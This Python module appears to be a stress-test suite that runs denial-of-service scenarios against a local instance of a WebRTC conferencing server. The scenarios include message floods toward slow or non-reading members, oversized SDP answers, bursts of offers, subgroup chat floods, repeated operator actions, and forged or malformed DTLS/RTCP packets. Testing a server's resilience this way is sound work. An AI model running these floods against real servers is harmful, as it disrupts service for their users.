"""Attacks by members of a group who may only present and talk."""

from __future__ import annotations

import asyncio
import socket
import uuid
from contextlib import suppress

import aiohttp
from attacking import Attack, drain

from kit.frames import UPGRADE, handshake, text


async def private_flood(attack: Attack) -> None:
    """Private messages of 64 kB to somebody on a line of 2 Mbit/s, who must stay."""
    async with attack.session() as session:
        sender = await attack.person(session, "target", wants=[])
        sock = socket.socket()
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 16_384)
        sock.setblocking(False)
        loop = asyncio.get_running_loop()
        await loop.sock_connect(sock, ("127.0.0.1", attack.port))
        await loop.sock_sendall(sock, UPGRADE)
        await loop.sock_sendall(sock, handshake("slow"))
        await loop.sock_sendall(
            sock, text(type="join", kind="join", group="target", username="slow", password="")
        )
        reading = asyncio.create_task(drain(sender))
        await asyncio.sleep(0.3)
        received = 0

        async def read_slowly() -> None:
            nonlocal received
            while attack.going_on:
                data = await loop.sock_recv(sock, 12_500)
                if not data:
                    attack.count("THE LISTENER WAS THROWN OUT")
                    return
                received += len(data)
                await asyncio.sleep(0.05)

        slow = asyncio.create_task(read_slowly())
        with suppress(ConnectionError, aiohttp.ClientError):
            while attack.going_on:
                await sender.send(type="usermessage", kind="x", dest="slow", value="x" * 64_000)
                attack.count("sent")
                await asyncio.sleep(0.003)
        await slow
        attack.told["kB that the listener read"] = received // 1000
        sock.close()
        reading.cancel()


async def toggling(attack: Attack) -> None:
    """`requestStream` on and off, with the longest answers that are taken."""
    async with attack.session() as session:
        speaker = await attack.person(session, "target", wants=[])
        await speaker.publish()
        reading = asyncio.create_task(drain(speaker))

        async def one() -> None:
            from kit.loadpeer import LoadPeer

            watcher = await attack.person(session, "target", wants=["audio", "video"])
            offer = await watcher.next_offer()
            first, _ = LoadPeer().answer(offer["sdp"])
            try:
                while attack.going_on:
                    answer = first
                    answer += ("a=x-" + "y" * 60 + "\r\n") * ((120_000 - len(answer)) // 66)
                    await watcher.send(type="answer", id=offer["id"], sdp=answer)
                    for kinds in (["audio"], ["audio", "video"]):
                        await watcher.send(type="requestStream", id=offer["id"], request=kinds)
                    attack.count("cycles")
                    offer = await watcher.next_offer()
            finally:
                watcher.close()
                await watcher.socket.close()

        await attack.many(one, 5)
        reading.cancel()
        speaker.close()


async def offers(attack: Attack) -> None:
    """A hundred offers at once, again and again, in a room of thirty."""
    from kit.loadpeer import LoadPeer

    async with attack.session() as session:
        people = [await attack.person(session, "target", wants=["audio", "video"]) for _ in range(30)]
        reading = [asyncio.create_task(drain(one)) for one in people]
        sdp = LoadPeer().offer(audio=1, video=2)

        async def one() -> None:
            sender = await attack.person(session, "target", wants=[])
            emptying = asyncio.create_task(drain(sender))
            for number in range(100):
                await sender.send(type="offer", id=uuid.uuid4().hex, label="camera", sdp=sdp)
                if number % 16 == 15:
                    await sender.send(type="close", id="x")
            attack.count("hundreds")
            await asyncio.sleep(1.0)
            emptying.cancel()
            await sender.socket.close()

        await attack.many(one, 2)
        for task in reading:
            task.cancel()


async def chatting(attack: Attack) -> None:
    """Four messages of 60 kB in each of hundreds of subgroups."""
    async with attack.session() as session:
        stay = []

        async def one() -> None:
            person = await attack.person(session, f"target/{uuid.uuid4().hex}", wants=[])
            for _ in range(4):
                await person.send(type="chat", value="x" * 60_000)
            stay.append(asyncio.create_task(drain(person)))
            attack.count("subgroups")
            if len(stay) > 250:
                stay.pop(0).cancel()
                await asyncio.sleep(0.05)

        await attack.many(one, 8)


async def never_reading(attack: Attack) -> None:
    """A hundred members who never read, and one who talks."""
    deaf = []
    for number in range(100):
        reader, writer = await attack.raw()
        writer.transport.pause_reading()  # type: ignore[attr-defined]
        writer.write(handshake(f"deaf{number}"))
        writer.write(text(type="join", kind="join", group="target", username="deaf", password=""))
        deaf.append((reader, writer))
    async with attack.session() as session:
        talker = await attack.person(session, "target", wants=[])
        reading = asyncio.create_task(drain(talker))
        with suppress(ConnectionError, aiohttp.ClientError):
            while attack.going_on:
                await talker.send(type="chat", value="x" * 30_000)
                await asyncio.sleep(0.02)
        reading.cancel()
    for _, writer in deaf:
        writer.transport.abort()


async def _talk(
    attack: Attack, messages: list[dict[str, object]], *, group: str = "target", operator: bool = False
) -> None:
    """The same messages over and over, in a room of twenty who hear it."""
    async with attack.session() as session:
        hearing = [await attack.person(session, group, wants=[]) for _ in range(20)]
        reading = [asyncio.create_task(drain(one)) for one in hearing]

        async def one() -> None:
            ws = await session.ws_connect(attack.url + "ws", max_msg_size=0)
            name = uuid.uuid4().hex
            await ws.send_json({"type": "handshake", "version": ["2"], "id": name})
            who = {"username": "op", "password": "op"} if operator else {"username": name, "password": ""}
            await ws.send_json({"type": "join", "kind": "join", "group": group, **who})
            emptying = asyncio.create_task(_empty(ws))
            try:
                while attack.going_on and not ws.closed:
                    for message in messages:
                        filled = {k: name if v == "SELF" else v for k, v in message.items()}
                        await ws.send_json({"source": name, "username": who["username"], **filled})
                        attack.count("messages")
                    await asyncio.sleep(0)
            finally:
                emptying.cancel()
                await ws.close()

        await attack.many(one, 5)
        for task in reading:
            task.cancel()


async def _empty(ws: aiohttp.ClientWebSocketResponse) -> None:
    async for _ in ws:
        pass


async def hands(attack: Attack) -> None:
    """A hand that goes up and down, and says more and more of itself."""
    await _talk(
        attack,
        [
            {"type": "useraction", "kind": "setdata", "dest": "SELF", "value": {"raisehand": True}},
            {"type": "useraction", "kind": "setdata", "dest": "SELF", "value": {"raisehand": None}},
            {"type": "useraction", "kind": "setdata", "dest": "SELF", "value": {"x": "y" * 15_000}},
        ],
    )


async def talking(attack: Attack) -> None:
    """Chat of all kinds."""
    await _talk(
        attack,
        [
            {"type": "chat", "kind": "me", "value": "waves"},
            {"type": "chat", "kind": "caption", "value": "x" * 500},
            {"type": "usermessage", "kind": "raisehand", "value": None},
            {"type": "chat", "dest": "nobody", "value": "hello"},
        ],
    )


async def requests(attack: Attack) -> None:
    """Asking for everything, for nothing, for sound only, all the time."""
    await _talk(
        attack,
        [
            {"type": "request", "request": {"": ["audio", "video"]}},
            {"type": "request", "request": {}},
            {"type": "request", "request": {"": ["audio"], "x" * 100: ["video-low"] * 10}},
            {"type": "requestStream", "id": "x", "request": ["audio"]},
            {"type": "ice", "id": "x", "candidate": {"candidate": "x" * 1000}},
            {"type": "renegotiate", "id": "x"},
        ],
    )


async def operating(attack: Attack) -> None:
    """An operator who locks, unlocks, writes on the wall and invites without end."""
    await _talk(
        attack,
        [
            {"type": "groupaction", "kind": "lock", "value": "x" * 1_000},
            {"type": "groupaction", "kind": "unlock"},
            {"type": "groupaction", "kind": "setdata", "value": {"x": "y" * 15_000}},
            {"type": "groupaction", "kind": "clearchat"},
            {"type": "groupaction", "kind": "subgroups"},
            {"type": "groupaction", "kind": "maketoken", "value": {"group": "target", "expires": 1e13}},
            {"type": "groupaction", "kind": "listtokens"},
        ],
        group="operated",  # which is left locked
        operator=True,
    )


async def packets(attack: Attack) -> None:
    """From the address of a member's own connection: checks with wrong integrity, handshakes, rubbish."""
    from kit.dtls_side import dtls_client
    from kit.loadpeer import receiver_report

    async with attack.session() as session:
        member = await attack.person(session, "target", wants=[])
        await member.publish()
        peer = member.up
        assert peer is not None
        reading = asyncio.create_task(drain(member))
        client = dtls_client()
        with suppress(Exception):
            client.do_handshake()
        hello = client.bio_read(4096)
        forged = peer.consent[:-40] + bytes(40)
        reports = peer.protected_rtcp([receiver_report(7, 1, n, 1_000_000) for n in range(64)])
        garbage = peer.protected_rtcp(
            [bytes([0x81, 205, 0, 250]) + bytes(1000), b"\x81\xc9\x00\x01" + bytes(4)]
        )
        while attack.going_on:
            for data in (
                forged,
                hello,
                *reports,
                *garbage,
                bytes([20]) * 1200,
                bytes([128, 111]) + bytes(1200),
            ):
                with suppress(OSError):
                    peer.sock.send(data)
                    attack.count("packets")
            await asyncio.sleep(0)
        reading.cancel()
        member.close()
